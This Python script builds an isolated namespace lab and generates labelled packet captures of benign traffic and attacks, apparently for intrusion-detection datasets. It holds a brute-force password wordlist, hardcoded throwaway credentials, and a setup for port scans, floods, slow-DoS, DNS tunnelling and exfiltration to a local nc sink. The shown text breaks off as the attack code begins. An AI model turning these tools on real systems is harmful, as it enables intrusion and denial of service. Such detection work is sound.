#!/usr/bin/env python3
"""Traffic lab: real tools, real stacks, labelled attacks, one pcap.

Builds a private L2 lab out of network namespaces (a bridge inside a dedicated
"sw" namespace, veth pairs to a server, benign clients and attackers), starts
real services in the server namespace (nginx, dnsmasq, sshd, iperf3), captures
everything the server sees with tcpdump, drives a seeded mix of benign traffic
and runs real attack tools (nmap, hping3, slowhttptest, hydra, dig, nc) in
labelled time slots.

Outputs PREFIX.pcap (Ethernet) and PREFIX.labels.csv. All traffic stays inside
namespaces this script creates (10.77.0.0/24); nothing leaves the machine.

Usage (as root, Python 3.11, stdlib only; tools from install-deps.sh):
    python3 pcaps/lab/generate.py --seed 1 --duration 90 --out /tmp/lab1
"""

from __future__ import annotations

import argparse
import base64
import csv
import datetime as dt
import hashlib
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

SUBNET = "10.77.0"
SRV_IP = f"{SUBNET}.10"
CLIENT_BASE = 21  # c1 = .21, c2 = .22, ...
ATTACKER_IPS = {"atk1": f"{SUBNET}.66", "atk2": f"{SUBNET}.67"}
ZONE = "lab.test"
SSH_USER = "nslab"
SSH_PASSWORD = "Lab-Pass-2026"  # noqa: S105 - throwaway account inside the lab only
HTTP_USER = "admin"
HTTP_PASSWORD = "letmein-77"  # noqa: S105
IPERF_PORTS = (5201, 5202, 5203)
LABEL_GRACE_S = 1.0  # replies/RSTs trailing an attack stay inside its slot
MIN_GAP_S = 4.0  # benign-only time between two attack slots
BASE_TOOLS = ("ip", "tcpdump", "ethtool")
# what each service, benign activity and attack family needs (preflight checks only these)
SERVICE_TOOLS = {"nginx": ("nginx",), "dnsmasq": ("dnsmasq",),
                 "sshd": ("/usr/sbin/sshd", "ssh-keygen"), "iperf3": ("iperf3",), "nc": ("nc",)}
BENIGN_NEEDS = {  # activity -> (tools, services)
    "web": (("curl", "dig"), ("nginx", "dnsmasq")), "dns": (("dig",), ("dnsmasq",)),
    "ssh": (("ssh", "sshpass"), ("sshd",)), "bulk": (("curl",), ("nginx",)),
    "iperf": (("iperf3",), ("iperf3",)), "ping": (("ping",), ()),
}
FAMILY_NEEDS = {
    "port-scan": (("nmap",), ()), "flood": (("hping3",), ()),
    "slow-dos": (("slowhttptest",), ("nginx",)), "dns-tunnel": (("dig",), ("dnsmasq",)),
    "exfil": ((), ("nc",)),
}
ATTACK_NEEDS = {"brute-ssh": (("hydra",), ("sshd",)), "brute-http": (("hydra",), ("nginx",))}
COMMON_PASSWORDS = (
    "123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123 "
    "baseball abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop 123321 "
    "mustang 1234567890 michael 654321 pussy superman 1qaz2wsx 7777777 fuckyou 121212 000000 "
    "qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster soccer "
    "harley batman andrew tigger sunshine iloveyou 2000 charlie robert thomas hockey ranger "
    "daniel starwars klaster 112233 george computer michelle jessica pepper 1111 zxcvbn 555555 "
    "11111111 131313 freedom 777777 pass maggie 159753 aaaaaa ginger princess joshua cheese "
    "amanda summer love ashley nicole chelsea biteme matthew access yankees 987654321 dallas "
    "austin thunder taylor matrix admin root toor changeme welcome secret"
).split()


# ----------------------------------------------------------------------------- profiles

@dataclass(frozen=True)
class Profile:
    """Volume knobs: 'small' keeps committed captures small, 'bench' makes bulk."""

    bulk_max_bytes: int  # cap per benign download (range request); 0 = whole file
    bulk_rate: tuple[str, ...]  # curl --limit-rate choices ("" = unlimited)
    iperf_rates: tuple[str, ...]  # iperf3 -b choices ("0" = unlimited)
    flood_interval_us: tuple[int, ...]  # hping3 -i uN choices
    flood_seconds: tuple[float, float]
    exfil_bytes: tuple[int, int]
    think_s: tuple[float, float]  # mean benign think time range per client
    object_max_bytes: int  # cap on generated page/asset sizes
    slow_conns: tuple[int, int]  # slowhttptest -c range
    scan_ports: tuple[int, ...]  # port-range sizes for T3/T4 TCP scans
    weights: dict[str, float] = field(default_factory=dict)


PROFILES = {
    "small": Profile(
        bulk_max_bytes=200_000, bulk_rate=("2M", "5M", ""), iperf_rates=("300K", "600K"),
        flood_interval_us=(3000, 4000, 5000), flood_seconds=(1.5, 3.0),
        exfil_bytes=(800_000, 1_500_000), think_s=(2.5, 6.0), object_max_bytes=20_000,
        slow_conns=(40, 120), scan_ports=(100, 300, 1000),
        weights={"web": 5, "dns": 3, "ssh": 1.5, "bulk": 0.8, "iperf": 0.5, "ping": 1},
    ),
    "default": Profile(
        bulk_max_bytes=0, bulk_rate=("5M", "20M", ""), iperf_rates=("10M", "50M"),
        flood_interval_us=(1000, 2000), flood_seconds=(3.0, 8.0),
        exfil_bytes=(3_000_000, 8_000_000), think_s=(1.5, 4.0), object_max_bytes=600_000,
        slow_conns=(60, 250), scan_ports=(100, 500, 1024, 2000),
        weights={"web": 5, "dns": 3, "ssh": 1.5, "bulk": 1, "iperf": 0.7, "ping": 1},
    ),
    "bench": Profile(
        bulk_max_bytes=0, bulk_rate=("10M", "30M", ""), iperf_rates=("20M", "50M", "100M"),
        flood_interval_us=(300, 500, 1000), flood_seconds=(10.0, 20.0),
        exfil_bytes=(20_000_000, 40_000_000), think_s=(0.3, 1.5), object_max_bytes=600_000,
        slow_conns=(200, 500), scan_ports=(1024, 2000, 5000),
        weights={"web": 6, "dns": 5, "ssh": 1, "bulk": 1, "iperf": 1, "ping": 1},
    ),
}


# ----------------------------------------------------------------------------- the lab

def log(msg: str) -> None:
    """Progress on stdout with a wall-clock stamp (same clock as tcpdump)."""
    stamp = dt.datetime.now(dt.UTC).strftime("%H:%M:%S.%f")[:-3]
    print(f"[{stamp}] {msg}", flush=True)


def iso(ts: float) -> str:
    """Unix time -> ISO 8601 UTC with microseconds (2026-11-23T12:00:00.123456+00:00)."""
    return dt.datetime.fromtimestamp(ts, dt.UTC).isoformat(timespec="microseconds")


@dataclass
class Node:
    name: str  # short role name: srv, c1, atk1
    ns: str  # namespace name (unique per run)
    ip: str


class Lab:
    """Owns every namespace, process and temp file of one run; cleanup() undoes all."""

    def __init__(self, n_clients: int, attackers: list[str], workdir: str) -> None:
        self.tag = f"nl{os.getpid()}"
        self.sw = f"{self.tag}-sw"
        self.workdir = workdir
        self.srv = Node("srv", f"{self.tag}-srv", SRV_IP)
        self.clients = [
            Node(f"c{i + 1}", f"{self.tag}-c{i + 1}", f"{SUBNET}.{CLIENT_BASE + i}")
            for i in range(n_clients)
        ]
        self.attackers = {a: Node(a, f"{self.tag}-{a}", ATTACKER_IPS[a]) for a in attackers}
        self.namespaces: list[str] = []
        self.daemons: list[tuple[str, subprocess.Popen]] = []
        self.running: set[subprocess.Popen] = set()
        self.lock = threading.Lock()
        self.stop = threading.Event()
        self.capture: subprocess.Popen | None = None
        os.makedirs(os.path.join(workdir, "logs"), exist_ok=True)

    # -- process helpers ------------------------------------------------------------
    def logfile(self, name: str):
        """Append-mode log per node/daemon inside the workdir (for debugging runs)."""
        return open(os.path.join(self.workdir, "logs", f"{name}.log"), "ab")  # noqa: SIM115

    def popen(self, node: Node | str, argv: list[str], logname: str | None = None,
              stdin=subprocess.DEVNULL, cwd: str | None = None) -> subprocess.Popen:
        """Start argv inside a namespace in its own process group (so we can kill it whole)."""
        ns = node.ns if isinstance(node, Node) else node
        name = logname or (node.name if isinstance(node, Node) else "sw")
        with self.logfile(name) as fh:
            p = subprocess.Popen(
                ["ip", "netns", "exec", ns, *argv], stdin=stdin, stdout=fh, stderr=fh,
                start_new_session=True, cwd=cwd or self.workdir,
            )
        with self.lock:
            self.running.add(p)
        return p

    def finish(self, p: subprocess.Popen, timeout: float) -> int:
        """Wait at most timeout seconds, then kill the whole process group."""
        try:
            return p.wait(timeout=max(0.1, timeout))
        except subprocess.TimeoutExpired:
            kill_group(p)
            return -9
        finally:
            with self.lock:
                self.running.discard(p)

    def run(self, node: Node | str, argv: list[str], timeout: float, **kw) -> int:
        """Run argv in a namespace, bounded by timeout."""
        return self.finish(self.popen(node, argv, **kw), timeout)

    def daemon(self, node: Node, name: str, argv: list[str]) -> subprocess.Popen:
        """Long-running service; killed in cleanup()."""
        p = self.popen(node, argv, logname=name)
        with self.lock:
            self.running.discard(p)
        self.daemons.append((name, p))
        return p

    # -- topology -------------------------------------------------------------------
    def all_nodes(self) -> list[Node]:
        return [self.srv, *self.clients, *self.attackers.values()]

    def build(self) -> None:
        """Bridge br0 in namespace sw; one veth per node (eth0 in node, p-<node> on br0)."""
        sh(["ip", "netns", "add", self.sw])
        self.namespaces.append(self.sw)
        quiet_ns(self.sw)
        sh(["ip", "-n", self.sw, "link", "add", "br0", "type", "bridge",
            "stp_state", "0", "forward_delay", "0", "mcast_snooping", "0"])
        sh(["ip", "-n", self.sw, "link", "set", "br0", "up"])
        sh(["ip", "-n", self.sw, "link", "set", "lo", "up"])
        for node in self.all_nodes():
            sh(["ip", "netns", "add", node.ns])
            self.namespaces.append(node.ns)
            quiet_ns(node.ns)
            port = f"p-{node.name}"
            sh(["ip", "link", "add", "eth0", "netns", node.ns, "type", "veth",
                "peer", "name", port, "netns", self.sw])
            sh(["ip", "-n", self.sw, "link", "set", port, "master", "br0", "up"])
            sh(["ip", "-n", node.ns, "addr", "add", f"{node.ip}/24", "dev", "eth0"])
            sh(["ip", "-n", node.ns, "link", "set", "eth0", "up"])
            sh(["ip", "-n", node.ns, "link", "set", "lo", "up"])
            # wire-like frames: no TSO/GSO super-packets, real checksums in the capture
            for ns, dev in ((node.ns, "eth0"), (self.sw, port)):
                subprocess.run(["ip", "netns", "exec", ns, "ethtool", "-K", dev, "tso", "off",
                                "gso", "off", "gro", "off", "tx", "off", "rx", "off"],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
        log(f"topology up: bridge {self.sw}/br0, nodes "
            + ", ".join(f"{n.name}={n.ip}" for n in self.all_nodes()))

    def start_capture(self, pcap: str, snaplen: int) -> None:
        """tcpdump on the server's bridge port: every lab flow has the server at one end."""
        argv = ["tcpdump", "-i", "p-srv", "-w", pcap, "-U", "-n", "-Z", "root", "-B", "16384"]
        if snaplen:
            argv += ["-s", str(snaplen)]
        self.capture = self.popen(self.sw, argv, logname="tcpdump")
        with self.lock:
            self.running.discard(self.capture)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and not os.path.exists(pcap):
            time.sleep(0.1)
        time.sleep(0.5)
        log(f"capture started on {self.sw}/p-srv -> {pcap}")

    def stop_capture(self) -> None:
        """SIGINT lets tcpdump flush and print its counters."""
        if self.capture and self.capture.poll() is None:
            time.sleep(1.0)
            os.killpg(self.capture.pid, signal.SIGINT)
            try:
                self.capture.wait(timeout=10)
            except subprocess.TimeoutExpired:
                kill_group(self.capture)
        path = os.path.join(self.workdir, "logs", "tcpdump.log")
        if os.path.exists(path):
            with open(path, errors="replace") as fh:
                for line in fh:
                    if "packets" in line:
                        log("tcpdump: " + line.strip())

    def cleanup(self) -> None:
        """Kill everything we started, delete our namespaces (their veths go with them)."""
        self.stop.set()
        with self.lock:
            procs = list(self.running)
        for p in procs:
            kill_group(p)
        if self.capture and self.capture.poll() is None:
            kill_group(self.capture, signal.SIGINT)
        for _name, p in reversed(self.daemons):
            kill_group(p, signal.SIGTERM)
        for _name, p in reversed(self.daemons):
            try:
                p.wait(timeout=3)
            except subprocess.TimeoutExpired:
                kill_group(p)
        for ns in reversed(self.namespaces):
            # anything still inside a namespace we created was started by this run
            out = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True,
                                 check=False).stdout.split()
            for pid in out:
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (ProcessLookupError, ValueError):
                    pass
            subprocess.run(["ip", "netns", "del", ns], stderr=subprocess.DEVNULL, check=False)
        self.namespaces.clear()


def sh(argv: list[str]) -> None:
    """Run a setup command on the host; fail loudly."""
    subprocess.run(argv, check=True)


def quiet_ns(ns: str) -> None:
    """No IPv6 autoconf/MLD chatter: the lab is IPv4 and the capture should show only it."""
    for key in ("all", "default"):
        subprocess.run(["ip", "netns", "exec", ns, "sysctl", "-q", "-w",
                        f"net.ipv6.conf.{key}.disable_ipv6=1"], check=False)


def kill_group(p: subprocess.Popen, sig: int = signal.SIGKILL) -> None:
    """Signal a process group we created (start_new_session) and reap it briefly."""
    if p.poll() is not None:
        return
    try:
        os.killpg(p.pid, sig)
    except ProcessLookupError:
        return
    try:
        p.wait(timeout=3)
    except subprocess.TimeoutExpired:
        try:
            os.killpg(p.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        p.wait(timeout=3)


# ----------------------------------------------------------------------------- services

@dataclass
class Site:
    pages: list[str]
    assets: list[str]
    large: str
    large_size: int


def code_text(rng: random.Random, words: list[str], size: int) -> bytes:
    """Script/style-sheet-like text of about `size` bytes (identifiers, braces, numbers)."""
    parts: list[str] = []
    n = 0
    while n < size:
        a, b = rng.choice(words), rng.choice(words)
        line = rng.choice([f"function {a}_{b}(x) {{ return x.{a} + {rng.randint(0, 999)}; }}\n",
                           f".{a}-{b} {{ margin: {rng.randint(0, 40)}px; color: "
                           f"#{rng.getrandbits(24):06x}; }}\n",
                           f"var {a}{b.title()} = document.getElementById('{a}-{b}');\n"])
        parts.append(line)
        n += len(line)
    return "".join(parts).encode()[:size]


def make_site(root: str, rng: random.Random, large_mb: int, max_bytes: int) -> Site:
    """Pages/assets of varied size plus one large file, so browsing and bulk look different."""
    www = os.path.join(root, "www")
    os.makedirs(os.path.join(www, "big"), exist_ok=True)
    os.makedirs(os.path.join(www, "admin"), exist_ok=True)
    words = ("lab sensor packet flow bridge veth kernel socket route proxy cache token "
             "session window header stream buffer queue thread signal vector").split()
    pages, assets = [], []
    for i in range(rng.randint(12, 20)):
        size = int(rng.lognormvariate(9.0, 1.2))  # median ~8 KB, tail to a few hundred KB
        size = max(600, min(size, max_bytes))
        body = []
        while sum(len(w) + 1 for w in body) < size:
            body.append(rng.choice(words))
        name = f"page{i}.html"
        with open(os.path.join(www, name), "w") as fh:
            fh.write(f"<html><head><title>{name}</title></head><body><p>")
            fh.write(" ".join(body))
            fh.write("</p></body></html>\n")
        pages.append(name)
    for i in range(rng.randint(8, 14)):
        ext = rng.choice(["png", "jpg", "svg", "js", "css"])
        size = max(300, min(int(rng.lognormvariate(10.0, 1.0)), max_bytes))
        name = f"static/a{i}.{ext}"
        os.makedirs(os.path.join(www, "static"), exist_ok=True)
        with open(os.path.join(www, name), "wb") as fh:
            if ext in ("svg", "js", "css"):  # text, as scripts, styles and SVG icons are
                fh.write(code_text(rng, words, size))
            else:  # images: compressed formats, incompressible bytes
                fh.write(rng.randbytes(size))
        assets.append(name)
    links = "".join(f'<a href="/{p}">{p}</a>\n' for p in pages)
    with open(os.path.join(www, "index.html"), "w") as fh:
        fh.write(f"<html><body><h1>{ZONE}</h1>\n{links}</body></html>\n")
    with open(os.path.join(www, "admin", "index.html"), "w") as fh:
        fh.write("<html><body>admin console</body></html>\n")
    large = "big/large.bin"
    size = large_mb * 1_000_000
    block = records_csv(rng, 1_000_000)  # a database export: text, as most bulk data is
    with open(os.path.join(www, large), "wb") as fh:
        for _ in range(large_mb):
            fh.write(block)
    return Site(pages, assets, large, size)


def records_csv(rng: random.Random, size: int) -> bytes:
    """`size` bytes of CSV records (ids, names, e-mails, amounts, dates): what bulk transfers
    and exfiltrated dumps carry. Text keeps the committed whole-frame captures small under
    gzip; random bytes would not compress at all."""
    first = ("anna ben carla david eva felix greta hugo ida jonas karl lena mia noah olga paul "
             "rita sven tina uwe").split()
    last = ("meyer schmidt huber wagner becker fischer weber koch bauer richter klein wolf "
            "neumann braun zimmer hartmann").split()
    lines = ["id,first,last,email,amount,currency,created\n"]
    n = len(lines[0])
    while n < size:
        f, la = rng.choice(first), rng.choice(last)
        line = (f"{rng.randint(100000, 999999)},{f},{la},{f}.{la}{rng.randint(1, 99)}@"
                f"{rng.choice(['example.org', 'mail.test', 'corp.test'])},"
                f"{rng.randint(1, 99999)}.{rng.randint(0, 99):02d},{rng.choice(['EUR', 'USD'])},"
                f"2026-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}\n")
        lines.append(line)
        n += len(line)
    return "".join(lines).encode()[:size]


def htpasswd_line(user: str, password: str, salt: bytes) -> str:
    """An nginx basic-auth entry in the salted SHA-1 scheme ({SSHA}); no htpasswd needed."""
    digest = hashlib.sha1(password.encode() + salt).digest()  # noqa: S324 - nginx's scheme
    return f"{user}:{{SSHA}}{base64.b64encode(digest + salt).decode()}\n"


def start_services(lab: Lab, rng: random.Random, tmp: str, exfil_port: int | None,
                   services: set[str]) -> None:
    """The services asked for (nginx, dnsmasq, sshd, iperf3, an nc sink for exfil), all in
    the srv namespace with their own configs in tmp."""
    srv = lab.srv
    if "nginx" in services:
        start_nginx(lab, rng, tmp)
    if "dnsmasq" in services:
        start_dnsmasq(lab, tmp)
    if "sshd" in services:
        start_sshd(lab, tmp)
    if "iperf3" in services:
        for port in IPERF_PORTS:
            lab.daemon(srv, f"iperf3-{port}", ["iperf3", "-s", "-B", SRV_IP, "-p", str(port)])
    if exfil_port:
        lab.daemon(srv, "nc-sink", ["sh", "-c", f"exec nc -lk {exfil_port} >/dev/null"])

    want_tcp = ({80} if "nginx" in services else set()) | ({22} if "sshd" in services else set())
    want_tcp |= set(IPERF_PORTS) if "iperf3" in services else set()
    want_tcp |= {exfil_port} if exfil_port else set()
    want_udp = {53} if "dnsmasq" in services else set()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        tcp = subprocess.run(["ip", "netns", "exec", srv.ns, "ss", "-Hltn"], capture_output=True,
                             text=True, check=False).stdout
        udp = subprocess.run(["ip", "netns", "exec", srv.ns, "ss", "-Hlun"], capture_output=True,
                             text=True, check=False).stdout
        if all(f":{p} " in tcp for p in want_tcp) and all(f":{p} " in udp for p in want_udp):
            break
        time.sleep(0.3)
    else:
        raise RuntimeError(f"services not up in srv namespace (see {lab.workdir}/logs)")
    for name, p in lab.daemons:
        if p.poll() is not None:
            raise RuntimeError(f"{name} exited early (see {lab.workdir}/logs/{name}.log)")
    up = [f"{name}:{port}" for name, port in (("nginx", 80), ("dnsmasq", 53), ("sshd", 22))
          if name in services]
    if "iperf3" in services:
        up.append(f"iperf3:{IPERF_PORTS}")
    if exfil_port:
        up.append(f"nc-sink:{exfil_port}")
    log(f"services up in {srv.ns}: {' '.join(up) or 'none'}")


def start_nginx(lab: Lab, rng: random.Random, tmp: str) -> None:
    """nginx: own config, pid, logs and temp paths in tmp (never /etc or /var)."""
    srv = lab.srv
    with open(os.path.join(tmp, "htpasswd"), "w") as fh:
        fh.write(htpasswd_line(HTTP_USER, HTTP_PASSWORD, rng.randbytes(8)))
    os.chmod(os.path.join(tmp, "htpasswd"), 0o644)
    for sub in ("body", "proxy", "fastcgi", "uwsgi", "scgi"):
        os.makedirs(os.path.join(tmp, "nginx", sub), exist_ok=True)
    conf = os.path.join(tmp, "nginx.conf")
    with open(conf, "w") as fh:
        fh.write(f"""
user www-data;
worker_processes 1;
pid {tmp}/nginx.pid;
error_log {tmp}/nginx-error.log warn;
events {{ worker_connections 768; }}
http {{
    include /etc/nginx/mime.types;
    default_type application/octet-stream;
    access_log {tmp}/nginx-access.log;
    client_body_temp_path {tmp}/nginx/body;
    proxy_temp_path {tmp}/nginx/proxy;
    fastcgi_temp_path {tmp}/nginx/fastcgi;
    uwsgi_temp_path {tmp}/nginx/uwsgi;
    scgi_temp_path {tmp}/nginx/scgi;
    sendfile on;
    keepalive_timeout 20;
    keepalive_requests 200;
    server {{
        listen {SRV_IP}:80;
        server_name www.{ZONE} {ZONE};
        root {tmp}/www;
        location /admin/ {{
            auth_basic "lab admin";
            auth_basic_user_file {tmp}/htpasswd;
        }}
    }}
}}
""")
    lab.daemon(srv, "nginx", ["nginx", "-e", f"{tmp}/nginx-error.log", "-c", conf,
                              "-g", "daemon off;"])


def start_dnsmasq(lab: Lab, tmp: str) -> None:
    """dnsmasq: authoritative-looking answers for lab.test, wildcard for everything else."""
    names = ["www", "mail", "smtp", "imap", "ftp", "api", "cdn", "static", "intranet", "git",
             "wiki", "jira", "vpn", "ldap", "proxy", "backup", "files", "monitor", "grafana",
             "ns1", "ns2", "printer", "nas"] + [f"db{i}" for i in range(1, 6)] + \
            [f"host{i:02d}" for i in range(1, 31)]
    dns_args = ["dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv",
                "--no-hosts", "--no-poll", "--bind-interfaces", f"--listen-address={SRV_IP}",
                f"--pid-file={tmp}/dnsmasq.pid", "--user=root", f"--local=/{ZONE}/",
                "--cache-size=1000", f"--mx-host={ZONE},mail.{ZONE},10",
                f"--txt-record={ZONE},v=spf1 mx -all"]
    for i, name in enumerate(names):
        dns_args.append(f"--host-record={name}.{ZONE},{SUBNET}.{100 + i}")
    dns_args.append(f"--address=/{ZONE}/{SRV_IP}")  # wildcard *.lab.test
    lab.daemon(lab.srv, "dnsmasq", dns_args)


def start_sshd(lab: Lab, tmp: str) -> None:
    """sshd: host keys via ssh-keygen -A into tmp, password auth for the lab user."""
    os.makedirs(os.path.join(tmp, "etc", "ssh"), exist_ok=True)
    sh(["ssh-keygen", "-A", "-f", tmp])
    os.makedirs("/run/sshd", mode=0o755, exist_ok=True)  # privilege-separation dir
    ensure_ssh_user()
    keys = "".join(f"HostKey {tmp}/etc/ssh/ssh_host_{k}_key\n"
                   for k in ("rsa", "ecdsa", "ed25519"))
    sshd_conf = os.path.join(tmp, "sshd_config")
    with open(sshd_conf, "w") as fh:
        fh.write(f"""Port 22
ListenAddress {SRV_IP}
{keys}PidFile {tmp}/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
UsePAM no
PermitRootLogin no
AllowUsers {SSH_USER}
MaxStartups 100:30:200
MaxAuthTries 6
LoginGraceTime 20
UseDNS no
PrintMotd no
StrictModes no
Subsystem sftp internal-sftp
""")
    lab.daemon(lab.srv, "sshd", ["/usr/sbin/sshd", "-D", "-e", "-f", sshd_conf])


def ensure_ssh_user() -> None:
    """A dedicated local account for ssh logins and brute force (created once, idempotent)."""
    if subprocess.run(["id", SSH_USER], capture_output=True, check=False).returncode != 0:
        sh(["useradd", "--create-home", "--shell", "/bin/bash", SSH_USER])
    subprocess.run(["chpasswd"], input=f"{SSH_USER}:{SSH_PASSWORD}\n", text=True, check=True)


# ----------------------------------------------------------------------------- benign traffic

USER_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari",
    "curl/7.88.1",
)


@dataclass
class Ctx:
    lab: Lab
    site: Site
    prof: Profile
    end: float  # monotonic deadline for benign activity


def benign_web(ctx: Ctx, node: Node, rng: random.Random, budget: float) -> str:
    """A page view: DNS lookup, then one keep-alive connection fetching page + assets."""
    host = rng.choice([f"www.{ZONE}", ZONE, f"intranet.{ZONE}"])
    ctx.lab.run(node, ["dig", f"@{SRV_IP}", "+tries=1", "+time=2", host, "A"], min(budget, 4))
    paths = [rng.choice(["", *ctx.site.pages])]
    paths += rng.sample(ctx.site.assets, rng.randint(0, min(6, len(ctx.site.assets))))
    paths += rng.sample(ctx.site.pages, rng.randint(0, 3))
    if rng.random() < 0.1:
        paths.append(f"missing-{rng.randint(1, 999)}.html")  # a 404 now and then
    argv = ["curl", "-s", "--resolve", f"{host}:80:{SRV_IP}", "-A", rng.choice(USER_AGENTS),
            "--max-time", str(int(max(2, budget)))]
    if rng.random() < 0.15:  # legitimate admin login
        argv += ["-u", f"{HTTP_USER}:{HTTP_PASSWORD}"]
        paths.append("admin/")
    if rng.random() < 0.3:
        argv.append("--compressed")
    argv += [f"http://{host}/{p}" for p in paths]
    ctx.lab.run(node, argv, budget)
    return f"web {len(paths)} objects"


def benign_dns(ctx: Ctx, node: Node, rng: random.Random, budget: float) -> str:
    """A few ordinary lookups with pauses (names in the zone, some MX/TXT, some NXDOMAIN-ish)."""
    n = rng.randint(1, 6)
    end = time.monotonic() + budget
    names = ["www", "mail", "api", "cdn", "git", "wiki", "db1", "host07", "vpn", "files"]
    for _ in range(n):
        if time.monotonic() >= end:
            break
        qtype = rng.choices(["A", "AAAA", "MX", "TXT", "A"], weights=[6, 2, 1, 1, 2])[0]
        name = f"{rng.choice(names)}.{ZONE}" if qtype != "MX" else ZONE
        if rng.random() < 0.1:
            name = f"{rng.choice(['updates', 'time', 'ntp'])}.example.org"
        ctx.lab.run(node, ["dig", f"@{SRV_IP}", "+tries=1", "+time=2", name, qtype],
                    min(4, end - time.monotonic()))
        time.sleep(min(rng.uniform(0.05, 1.5), max(0, end - time.monotonic())))
    return f"dns {n} lookups"


def benign_ssh(ctx: Ctx, node: Node, rng: random.Random, budget: float) -> str:
    """Interactive ssh: a pty, commands typed key by key with human pauses."""
    cmds = rng.sample(["uptime", "ls -la", "df -h", "ps aux | head -20", "cat /etc/os-release",
                       "free -m", "id", "uname -a", "ls /var/log | head", "date",
                       "head -50 /etc/services", "w"], rng.randint(2, 5))
    p = ctx.lab.popen(node, ["sshpass", "-p", SSH_PASSWORD, "ssh", "-tt",
                             "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                             "-o", "PreferredAuthentications=password", "-o", "LogLevel=ERROR",
                             "-o", "ConnectTimeout=5", f"{SSH_USER}@{SRV_IP}"],
                      stdin=subprocess.PIPE)
    end = time.monotonic() + budget
    try:
        time.sleep(min(1.5, budget / 4))
        for cmd in [*cmds, "exit"]:
            for ch in cmd + "\n":
                if time.monotonic() >= end - 1 or p.poll() is not None:
                    raise BrokenPipeError
                p.stdin.write(ch.encode())
                p.stdin.flush()
                time.sleep(rng.uniform(0.04, 0.25))
            time.sleep(rng.uniform(0.3, 2.5))
        p.stdin.close()
    except (BrokenPipeError, OSError):
        pass
    ctx.lab.finish(p, end - time.monotonic())
    return f"ssh {len(cmds)} commands"


def benign_bulk(ctx: Ctx, node: Node, rng: random.Random, budget: float) -> str:
    """Bulk download of the large file (a byte range when the profile caps volume)."""
    argv = ["curl", "-s", "-o", "/dev/null", "--max-time", str(int(max(2, budget)))]
    rate = rng.choice(ctx.prof.bulk_rate)
    if rate:
        argv += ["--limit-rate", rate]
    cap = ctx.prof.bulk_max_bytes
    if cap and cap < ctx.site.large_size:
        size = rng.randint(cap // 4, cap)
        start = rng.randint(0, ctx.site.large_size - size)
        argv += ["-r", f"{start}-{start + size - 1}"]
    ctx.lab.run(node, [*argv, f"http://{SRV_IP}/{ctx.site.large}"], budget)
    return f"bulk download rate={rate or 'max'}"


def benign_iperf(ctx: Ctx, node: Node, rng: random.Random, budget: float) -> str:
    """Short iperf3 run (-t 2), sometimes reverse or parallel; a busy server is fine too."""
    port = rng.choice(IPERF_PORTS)
    rate = rng.choice(ctx.prof.iperf_rates)
    argv = ["iperf3", "-c", SRV_IP, "-p", str(port), "-t", "2", "-b", rate, "--connect-timeout",
            "2000", "--repeating-payload"]
    if rng.random() < 0.4:
        argv.append("-R")
    if rng.random() < 0.25:
        argv += ["-P", str(rng.randint(2, 3))]
    ctx.lab.run(node, argv, min(budget, 10))
    return f"iperf3 port={port} -b {rate}"


def benign_ping(ctx: Ctx, node: Node, rng: random.Random, budget: float) -> str:
    """A handful of echo requests."""
    n = rng.randint(2, 8)
    interval = round(rng.uniform(0.2, 1.0), 2)
    argv = ["ping", "-q", "-c", str(n), "-i", str(interval), "-s", str(rng.choice([56, 64, 120])),
            "-W", "1", SRV_IP]
    ctx.lab.run(node, argv, min(budget, n * interval + 3))
    return f"ping x{n}"


BENIGN: dict[str, Callable[[Ctx, Node, random.Random, float], str]] = {
    "web": benign_web, "dns": benign_dns, "ssh": benign_ssh, "bulk": benign_bulk,
    "iperf": benign_iperf, "ping": benign_ping,
}


def benign_client(ctx: Ctx, node: Node, seed: int, counts: dict[str, int],
                  kinds: list[str]) -> None:
    """One client's session: its own weights and pace, activities until the deadline."""
    rng = random.Random(seed)
    weights = [ctx.prof.weights.get(k, 1.0) * rng.uniform(0.3, 1.7) for k in kinds]
    think = rng.uniform(*ctx.prof.think_s)
    time.sleep(rng.uniform(0, 2.0))
    for _ in range(100_000):  # bounded; the deadline normally ends it
        remaining = ctx.end - time.monotonic()
        if ctx.lab.stop.is_set() or remaining < 1.0:
            break
        kind = rng.choices(kinds, weights)[0]
        try:
            BENIGN[kind](ctx, node, rng, min(remaining, 30.0))
            with ctx.lab.lock:
                counts[kind] = counts.get(kind, 0) + 1
        except Exception as exc:  # keep the client alive; the capture is what matters
            log(f"{node.name}: {kind} failed: {exc}")
        pause = min(rng.expovariate(1 / think), 4 * think)
        ctx.lab.stop.wait(min(pause, max(0, ctx.end - time.monotonic())))


# ----------------------------------------------------------------------------- attacks

@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    budget: tuple[float, float]  # seconds the slot may last (min, max), chosen per seed
    fn: Callable[[Ctx, Node, random.Random, float, dict], str]


def nmap_scan(flag: str) -> Callable[[Ctx, Node, random.Random, float, dict], str]:
    """nmap with a per-seed timing template and a port range it can finish in the slot."""
    def run(ctx: Ctx, atk: Node, rng: random.Random, budget: float, extra: dict) -> str:
        if flag == "-sU":
            timing = rng.choice([3, 4])
            ports = sorted({53, 67, 123, 161, 500, 514, *rng.sample(range(1, 2000), 4)})
            port_arg = ",".join(map(str, ports))
        elif flag == "-sV":
            timing = rng.choice([3, 4])
